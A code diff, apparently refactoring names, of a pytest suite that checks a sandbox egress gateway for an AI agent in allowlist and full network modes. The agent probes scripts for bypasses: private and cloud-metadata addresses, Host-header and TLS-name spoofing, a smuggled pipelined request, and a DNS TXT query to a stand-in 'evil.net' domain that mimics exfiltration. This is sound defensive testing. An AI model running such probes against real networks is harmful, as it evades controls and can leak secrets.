@@ -1,7 +1,7 @@
-"""`network_mode: outbound` reaches what `allowed_hosts` lists, by any program, and `full` everything but what is near.
+"""`network_mode: outbound` reaches the hosts in `allowed_hosts`, and `full` all public hosts.
 
-Tried from inside by the real agent. Server and internet live in two namespaces of the test's own; every packet that
-reaches the internet is seen. What is allowed has addresses that are global by their numbers: no others are dialled.
+Tried from a sandbox by the real agent. The server and a fake internet run in two network namespaces; every packet to
+the internet is recorded. Allowed hosts have global addresses, since the gateway dials no others.
 """
 
 import hashlib
@@ -11,8 +11,8 @@ import pytest
 
 from doubles import fake_host
 from doubles.blocked_internet import METADATA_ADDRESS, PRIVATE_ADDRESS
-from doubles.egress_probe import PROBE, TOLD
-from doubles.fake_internet import make_certificate, played_internet, start_host
+from doubles.egress_probe import PRINT_RESULTS, PROBE
+from doubles.fake_internet import fake_internet, make_certificate, start_host
 from doubles.live_server import make_repository, python, says
 
 HOST, DEEP, SSH, HTTP2 = "files.example.org", "a.b.example.org", "git.example.net", "h2.example.net"
@@ -39,13 +39,16 @@ NAMES = {
     "intranet": HOST_ADDRESS,
     "files.internal": HOST_ADDRESS,
 }
-NEAR = ("inside.example.com", "metadata.example.com", "own.example.com")
-NOWHERE = "nowhere.example.com"
+NON_PUBLIC_NAMES = ("inside.example.com", "metadata.example.com", "own.example.com")
+UNRESOLVABLE = "nowhere.example.com"
 PORTS = (f"{HOST}:8443", f"{HOST}:8080", f"{SSH}:22", f"{HTTP2}:9443")
-OUTBOUND = {"network_mode": "outbound", "allowed_hosts": ["*.example.org", *PORTS, PLAIN, MODEL, *NEAR, NOWHERE]}
+OUTBOUND = {
+    "network_mode": "outbound",
+    "allowed_hosts": ["*.example.org", *PORTS, PLAIN, MODEL, *NON_PUBLIC_NAMES, UNRESOLVABLE],
+}
 FULL = {"network_mode": "full"}
 
-REACHES = rf"""
+REACHABLE = rf"""
 HOST, DEEP, SSH, HTTP2, PLAIN, OTHER = {HOST!r}, {DEEP!r}, {SSH!r}, {HTTP2!r}, {PLAIN!r}, {OTHER!r}
 for scheme in ("https", "http"):
     url = f"{{scheme}}://{{DEEP}}/a"
@@ -59,14 +62,14 @@ attempt("yes: upper case", curl, f"https://{{DEEP.upper()}}/a")
 attempt("yes: final dot", direct, f"http://{{DEEP}}./a")
 attempt("yes: https at another port by proxy", curl, f"https://{{HOST}}:8443/a")
 attempt("yes: http at another port by proxy", curl, f"http://{{HOST}}:8080/a")
-attempt("ssh: by proxy", lambda: conversation(connect(SSH, 22), b"SSH-2.0-me\r\n"))
-attempt("ssh: direct", lambda: conversation(socket.create_connection((SSH, 22), 15), b"SSH-2.0-me\r\n"))
+attempt("ssh: by proxy", lambda: read_send_read(connect(SSH, 22), b"SSH-2.0-me\r\n"))
+attempt("ssh: direct", lambda: read_send_read(socket.create_connection((SSH, 22), 15), b"SSH-2.0-me\r\n"))
 attempt("http2: by proxy", curl, "--http2", f"https://{{HTTP2}}:9443/a")
 attempt("websocket: by proxy", lambda: websocket(connect(HOST, 443), HOST))
 attempt("websocket: direct", lambda: websocket(socket.create_connection((HOST, 443), 15), HOST))
 """
 
-NEVER = rf"""
+NEVER_REACHABLE = rf"""
 MODEL, PORT = {MODEL!r}, int(MODEL_PORT)
 attempt("no: private address", curl, "http://inside.example.com/x")
 attempt("no: private address direct", direct, "http://inside.example.com/x")
@@ -93,14 +96,14 @@ attempt("no: one label", resolve, "intranet")
 attempt("no: one label by proxy", curl, "http://intranet/x")
 attempt("no: internal domain", resolve, "files.internal")
 attempt("no: metadata name", resolve, "metadata.google.internal")
-attempt("names: text record", lambda: ask_names(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\3net\0\0\20\0\1"))
+attempt("names: text record", lambda: query_dns(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\3net\0\0\20\0\1"))
 """
 
-ONLY_LISTED = r"""
+OUTBOUND_ATTEMPTS = r"""
 def two_requests_at_once():
-    ask = "GET /{} HTTP/1.1\r\nHost: {}\r\n\r\n"
+    request = "GET /{} HTTP/1.1\r\nHost: {}\r\n\r\n"
     with socket.create_connection((PLAIN, 80), 15) as plain:
-        plain.sendall((ask.format("first", PLAIN) + ask.format("smuggled", OTHER)).encode())
+        plain.sendall((request.format("first", PLAIN) + request.format("smuggled", OTHER)).encode())
         received = b""
         while data := plain.recv(1000):
             received += data
@@ -126,7 +129,7 @@ attempt("no: unknown address", direct, "-H", f"Host: {PLAIN}", "http://198.18.77
 attempt("no: other server name", direct, "-k", "--connect-to", f"{OTHER}:443:{PLAIN}:443", f"https://{OTHER}/x")
 attempt("no: other Host", direct, "-H", f"Host: {OTHER}", f"http://{PLAIN}/x")
 attempt("no: other Host by proxy", curl, "-H", f"Host: {OTHER}", f"http://{PLAIN}/x")
-attempt("no: nowhere", curl, "http://nowhere.example.com/x")
+attempt("no: unresolvable", curl, "http://nowhere.example.com/x")
 attempt("no: the domain itself", curl, "https://example.org/x")
 attempt("no: the domain itself direct", direct, "http://example.org/x")
 attempt("no: a domain that ends alike", curl, "https://notexample.org/x")
@@ -138,14 +141,14 @@ attempt("no: redirect elsewhere direct", direct, "-L", f"http://{HOST}/away/othe
 attempt("no: port of another host", curl, f"https://{DEEP}:8443/x")
 attempt("no: port of another host direct", direct, f"https://{DEEP}:8443/x")
 attempt("no: 443 where a port is given", curl, f"https://{SSH}/x")
-attempt("no: port that nobody has", direct, f"https://{HOST}:9000/x")
+attempt("no: port not listed", direct, f"https://{HOST}:9000/x")
 attempt("no: address by proxy", lambda: connect("8.8.4.4", 443))
 attempt("http2: direct", direct, "--http2", f"https://{HTTP2}:9443/a")
 attempt("yes: https at another port direct", direct, f"https://{HOST}:8443/a")
 attempt("yes: http at another port direct", direct, f"http://{HOST}:8080/a")
 """
 
-EVERYTHING = r"""
+FULL_ATTEMPTS = r"""
 attempt("yes: any host by proxy", curl, "https://other.example.com/a")
 attempt("yes: any host direct", direct, "http://other.example.com/a")
 attempt("yes: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com?a")
@@ -162,159 +165,168 @@ attempt("no: the server's address by proxy", lambda: connect("8.8.4.5", 80))
 attempt("no: port without proxy", direct, f"https://{HOST}:8443/x")
 """
 
-SCENES = {"outbound": (OUTBOUND, ONLY_LISTED), "full": (FULL, EVERYTHING)}
+MODES = {"outbound": (OUTBOUND, OUTBOUND_ATTEMPTS), "full": (FULL, FULL_ATTEMPTS)}
 
 
 @pytest.fixture(scope="module")
-def place(tmp_path_factory):
-    """A server that reaches an internet with a host that all names lead to; gives them and the host's record."""
+def egress_setup(tmp_path_factory):
+    """A server with a fake internet whose names resolve to one host; yields both and the host's request log."""
     directory = tmp_path_factory.mktemp("egress")
     certificate, record = directory / "host.pem", directory / "host.ndjson"
-    places = {"addresses": [HOST_ADDRESS, SERVICES_ADDRESS], "own_addresses": [OWN_ADDRESS]}
-    with played_internet(directory, NAMES, **places, services_at=SERVICES_ADDRESS) as (world, internet):
+    addresses = {"addresses": [HOST_ADDRESS, SERVICES_ADDRESS], "own_addresses": [OWN_ADDRESS]}
+    with fake_internet(directory, NAMES, **addresses, services_address=SERVICES_ADDRESS) as (machine, internet):
         public = make_certificate(certificate, *TO_HOST)
-        world.start_git(prefix=internet.internet_prefix)
+        machine.start_git(prefix=internet.internet_prefix)
         scripts = {
-            mode: f"{PROBE}\nMODEL_PORT = open('/workspace/port').read()\n{REACHES}\n{attempts}\n{NEVER}\n{TOLD}"
-            for mode, (_, attempts) in SCENES.items()
+            mode: "\n".join(
+                (
+                    PROBE,
+                    "MODEL_PORT = open('/workspace/port').read()",
+                    REACHABLE,
+                    attempts,
+                    NEVER_REACHABLE,
+                    PRINT_RESULTS,
+                )
+            )
+            for mode, (_, attempts) in MODES.items()
         }
         branches = {f"Try {mode}.": (python(script), says()) for mode, script in scripts.items()}
-        world.start_model(branches=branches, prefix=internet.internet_prefix)
-        port = world.model_url.rpartition(":")[2]
-        make_repository(world.repositories / "repo.git", {"port": port, "ca.pem": public})
-        start_host(world, internet, HOST_ADDRESS, certificate, record)
-        world.start_server(ANTHROPIC_BASE_URL=f"http://{MODEL}:{port}")
-        yield world, internet, record
+        machine.start_model(branches=branches, prefix=internet.internet_prefix)
+        port = machine.model_url.rpartition(":")[2]
+        make_repository(machine.repositories / "repo.git", {"port": port, "ca.pem": public})
+        start_host(machine, internet, HOST_ADDRESS, certificate, record)
+        machine.start_server(ANTHROPIC_BASE_URL=f"http://{MODEL}:{port}")
+        yield machine, internet, record
 
 
-@pytest.fixture(scope="module", params=SCENES)
-def outcome(request, place):
-    """What an agent saw that tried everything, what the host saw, what was on the wire and what was told."""
-    world, internet, record = place
+@pytest.fixture(scope="module", params=MODES)
+def results(request, egress_setup):
+    """Results of an agent's attempts: its observations, requests at the host, packets, and reported events."""
+    machine, internet, record = egress_setup
     mode, before = request.param, len(internet.packets)
-    for seen in (record, world.model_requests_file):
-        seen.write_bytes(b"")
-    world.submit(mode, vm=SCENES[mode][0], claude={"prompt": f"Try {mode}."})
-    status = world.wait(mode, seconds=180)
-    assert status["state"] == "completed", world.tell(mode)
-    answer = world.tool_results()[0]
-    assert answer.startswith("{"), answer
-    frames = world.frames(mode)
+    for log in (record, machine.model_requests_file):
+        log.write_bytes(b"")
+    machine.submit(mode, vm=MODES[mode][0], claude={"prompt": f"Try {mode}."})
+    status = machine.wait(mode, seconds=180)
+    assert status["state"] == "completed", machine.diagnostics(mode)
+    output = machine.tool_results()[0]
+    assert output.startswith("{"), output
+    frames = machine.wire_events(mode)
     return {
         "mode": mode,
-        "told": json.loads(answer),
-        "asked": [json.loads(line) for line in record.read_text().splitlines()],
+        "observed": json.loads(output),
+        "host_requests": [json.loads(line) for line in record.read_text().splitlines()],
         "denied": [frame for frame in frames if frame["type"] == "egress_denied"],
-        "troubles": [frame["error"] for frame in frames if frame["type"] == "error"],
+        "errors": [frame["error"] for frame in frames if frame["type"] == "error"],
         "sent": set(internet.packets[before:]),
-        "model_asked": [request for request in world.model_requests() if request["method"] != "POST"],
+        "direct_model_requests": [request for request in machine.model_requests() if request["method"] != "POST"],
         "services": {
-            ("tcp", SERVICES_ADDRESS, int(process.said["url"].rpartition(":")[2]))
-            for process in world.processes
-            if "url" in process.said
+            ("tcp", SERVICES_ADDRESS, int(process.ready_message["url"].rpartition(":")[2]))
+            for process in machine.processes
+            if "url" in process.ready_message
         },
         "status": status,
-        "metadata": json.loads(world.artifact("metadata.json", mode)),
+        "metadata": json.loads(machine.artifact("metadata.json", mode)),
     }
 
 
-of_what_is_listed = pytest.mark.parametrize("outcome", ["outbound"], indirect=True)
+outbound_only = pytest.mark.parametrize("results", ["outbound"], indirect=True)
 
 
-def answers(outcome, kind):
-    found = {name: answer for name, answer in outcome["told"].items() if name.startswith(f"{kind}:")}
+def results_of(results, kind):
+    found = {name: output for name, output in results["observed"].items() if name.startswith(f"{kind}:")}
     assert found
     return found
 
 
-def test_what_is_allowed_is_reached_by_curl_python_and_node_with_and_without_the_proxy(outcome):
-    assert {name: answer for name, answer in answers(outcome, "yes").items() if '"path": "/a"' not in answer} == {}
+def test_allowed_hosts_are_reached_with_and_without_the_proxy(results):
+    assert {name: output for name, output in results_of(results, "yes").items() if '"path": "/a"' not in output} == {}
 
 
-def test_git_reads_from_what_is_allowed_with_and_without_the_proxy(outcome):
+def test_git_reads_allowed_hosts_with_and_without_the_proxy(results):
     refs = f"{fake_host.COMMIT}\trefs/heads/main\n"
-    assert {name: answer for name, answer in answers(outcome, "git").items() if refs not in answer} == {}
+    assert {name: output for name, output in results_of(results, "git").items() if refs not in output} == {}
 
 
-def test_a_host_that_speaks_first_is_heard(outcome):
+def test_server_first_protocol_is_relayed(results):
     greeted = f"{fake_host.GREETING.decode().strip()}, SSH-2.0-me"
-    assert set(answers(outcome, "ssh").values()) == {greeted}
+    assert set(results_of(results, "ssh").values()) == {greeted}
 
 
-def test_http2_and_websocket_pass_inside_tls(outcome):
-    assert set(answers(outcome, "http2").values()) == {"HTTP 2.0 /a"}
-    assert set(answers(outcome, "websocket").values()) == {"101 a frame"}
+def test_http2_and_websocket_pass_inside_tls(results):
+    assert set(results_of(results, "http2").values()) == {"HTTP 2.0 /a"}
+    assert set(results_of(results, "websocket").values()) == {"101 a frame"}
 
 
-def test_nothing_else_answers(outcome):
-    for name, answer in answers(outcome, "no").items():
-        assert '"path"' not in answer, (name, answer)
-        refused = answer.startswith(("exit ", "gaierror", "TimeoutError")) or "Error: " in answer
-        assert refused or not answer or "Sandbox refused " in answer or "does not resolve" in answer, (name, answer)
-    assert outcome["told"]["names: text record"] in (0, 3), "no record, or no such name"
+def test_denied_destinations_do_not_respond(results):
+    for name, output in results_of(results, "no").items():
+        assert '"path"' not in output, (name, output)
+        refused = output.startswith(("exit ", "gaierror", "TimeoutError")) or "Error: " in output
+        assert refused or not output or "Sandbox refused " in output or "does not resolve" in output, (name, output)
+    assert results["observed"]["names: text record"] in (0, 3), "no record, or no such name"
 
 
-def test_the_host_was_asked_for_nothing_that_was_refused(outcome):
-    lines = [line for _, line, _ in outcome["asked"]]
+def test_denied_requests_do_not_reach_the_host(results):
+    lines = [line for _, line, _ in results["host_requests"]]
     assert any("/a " in line for line in lines)
     assert not any(("/x" in line and "/away/" not in line) or "/smuggled" in line for line in lines)
-    if outcome["mode"] == "outbound":
-        asked_for = {host.partition(":")[0].lower().removesuffix(".") for _, _, host in outcome["asked"]}
-        assert asked_for <= {HOST, DEEP, SSH, HTTP2, PLAIN}
+    if results["mode"] == "outbound":
+        requested_hosts = {host.partition(":")[0].lower().removesuffix(".") for _, _, host in results["host_requests"]}
+        assert requested_hosts <= {HOST, DEEP, SSH, HTTP2, PLAIN}
 
 
-def test_the_model_was_reached_by_claude_code_only(outcome):
-    assert outcome["model_asked"] == []
-    assert "the model" in " ".join(one["reason"] for one in outcome["denied"])
+def test_model_is_reached_only_through_the_gateway(results):
+    assert results["direct_model_requests"] == []
+    assert "the model" in " ".join(denial["reason"] for denial in results["denied"])
 
 
-def test_each_refusal_is_told_and_counted(outcome):
-    hosts = {one["host"] for one in outcome["denied"]}
+def test_denials_are_reported_and_counted(results):
+    hosts = {denial["host"] for denial in results["denied"]}
     assert {"inside.example.com", "metadata.example.com", "own.example.com", MODEL, "134744068"} <= hosts
-    total = outcome["metadata"]["refusals_total"]
-    assert total >= len(outcome["denied"]) >= 15
-    assert outcome["status"]["progress"]["egress_denied"] == total
+    total = results["metadata"]["refusals_total"]
+    assert total >= len(results["denied"]) >= 15
+    assert results["status"]["progress"]["egress_denied"] == total
 
 
-@of_what_is_listed
-def test_what_is_sent_arrives_byte_for_byte(outcome):
+@outbound_only
+def test_upload_arrives_unchanged(results):
     big = b"0123456789abcdef" * 65_536
-    assert json.loads(outcome["told"]["big"])["sha256"] == hashlib.sha256(big).hexdigest()
+    assert json.loads(results["observed"]["big"])["sha256"] == hashlib.sha256(big).hexdigest()
 
 
-@of_what_is_listed
-def test_the_name_of_an_allowed_host_stands_for_an_address_inside_only(outcome):
-    assert outcome["told"]["address"].startswith("198.18.")
+@outbound_only
+def test_allowed_host_resolves_to_a_synthetic_address(results):
+    assert results["observed"]["address"].startswith("198.18.")
 
 
-@of_what_is_listed
-def test_a_second_request_behind_the_first_goes_nowhere(outcome):
-    assert outcome["told"]["first of two"].count("HTTP/1.1 200 OK") == 1
-    assert '"path": "/first"' in outcome["told"]["first of two"]
+@outbound_only
+def test_pipelined_request_to_another_host_is_dropped(results):
+    assert results["observed"]["first of two"].count("HTTP/1.1 200 OK") == 1
+    assert '"path": "/first"' in results["observed"]["first of two"]
 
 
-@of_what_is_listed
-def test_each_refusal_says_where_to_and_why(outcome):
-    denied = {(one["host"], one["port"]) for one in outcome["denied"]}
-    near = {(host, 80) for host in NEAR}
+@outbound_only
+def test_denial_events_have_destination_and_reason(results):
+    denied = {(denial["host"], denial["port"]) for denial in results["denied"]}
+    non_public = {(host, 80) for host in NON_PUBLIC_NAMES}
     others = {(OTHER, 443), (OTHER, 80), (OTHER, 53), (DEEP, 8443), (HOST_ADDRESS, 443), (PLAIN, 80)}
-    assert near | others <= denied
-    reasons = [one["reason"] for one in outcome["denied"]]
+    assert non_public | others <= denied
+    reasons = [denial["reason"] for denial in results["denied"]]
     for reason, times in (
         ("its TLS names another server", 2),
         ("Host header names another", 3),
         ("is not an address of its name", 1),
         ("resolves to no public address", 4),
     ):
-        assert sum(reason in told for told in reasons) >= times, (reason, reasons)
+        assert sum(reason in text for text in reasons) >= times, (reason, reasons)
 
 
-@of_what_is_listed
-def test_a_host_that_does_not_resolve_is_told_as_trouble(outcome):
-    assert outcome["troubles"] == ["host_unreachable"]
+@outbound_only
+def test_unresolvable_host_is_reported_as_an_error(results):
+    assert results["errors"] == ["host_unreachable"]
 
 
-def test_nothing_else_was_on_the_wire(outcome):
+def test_no_other_packets_were_sent(results):
     to_host = {("tcp", HOST_ADDRESS, port) for port in (22, 80, 443, 8080, 8443, 9443)}
-    assert to_host <= outcome["sent"]
-    assert outcome["sent"] <= outcome["services"] | to_host
+    assert to_host <= results["sent"]
+    assert results["sent"] <= results["services"] | to_host
